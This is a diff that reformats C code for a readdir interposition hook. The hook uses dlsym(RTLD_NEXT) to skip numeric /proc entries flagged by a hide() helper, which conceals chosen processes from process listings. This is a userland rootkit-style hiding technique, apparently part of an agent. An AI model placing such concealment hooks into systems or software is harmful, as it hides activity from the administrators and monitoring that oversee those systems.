@@ -23,7 +23,8 @@ static bool is_task_list(int fd)
 	char path[PROC_PATH_BYTES];
 	long n = proc_path_of(fd, path, sizeof path);
 
-	return n > (long)sizeof end && !memcmp(path, "/proc/", 6) && !strcmp(path + n - (sizeof end - 1), end);
+	return n > (long)sizeof end && !memcmp(path, "/proc/", 6) &&
+	       !strcmp(path + n - (sizeof end - 1), end);
 }
 
 static bool hidden(DIR *d, const char *name)
@@ -38,18 +39,19 @@ static bool hidden(DIR *d, const char *name)
 }
 
 /* Each calls the next one of its own name: see hide.c. */
-#define EXPORT(symbol, type) \
-	AGENT_EXPORT type *export_##symbol(DIR *d) __asm__(#symbol); \
-	type *export_##symbol(DIR *d) \
-	{ \
-		type *entry; \
-\
-		if (!libc_##symbol) \
-			libc_##symbol = (__typeof__(libc_##symbol))dlsym(RTLD_NEXT, #symbol); \
-		do \
-			entry = libc_##symbol(d); \
-		while (entry && entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && hidden(d, entry->d_name)); \
-		return entry; \
+#define EXPORT(symbol, type)                                                                       \
+	AGENT_EXPORT type *export_##symbol(DIR *d) __asm__(#symbol);                               \
+	type *export_##symbol(DIR *d)                                                              \
+	{                                                                                          \
+		type *entry;                                                                       \
+                                                                                                   \
+		if (!libc_##symbol)                                                                \
+			libc_##symbol = (__typeof__(libc_##symbol))dlsym(RTLD_NEXT, #symbol);      \
+		do                                                                                 \
+			entry = libc_##symbol(d);                                                  \
+		while (entry && entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&              \
+		       hidden(d, entry->d_name));                                                  \
+		return entry;                                                                      \
 	}
 
 EXPORT(readdir, struct dirent)
